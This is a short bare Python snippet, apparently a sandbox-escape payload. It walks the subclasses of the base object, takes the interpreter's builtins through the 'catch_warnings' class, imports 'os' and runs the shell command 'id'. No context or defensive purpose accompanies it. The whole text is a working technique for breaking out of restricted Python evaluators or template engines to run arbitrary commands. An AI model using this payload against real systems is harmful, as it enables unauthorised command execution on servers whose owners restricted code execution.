for cls in ().__class__.__bases__[0].__subclasses__():
    if cls.__name__ == "catch_warnings":
        builtins = cls()._module.__builtins__
        builtins["__import__"]("os").system("id")
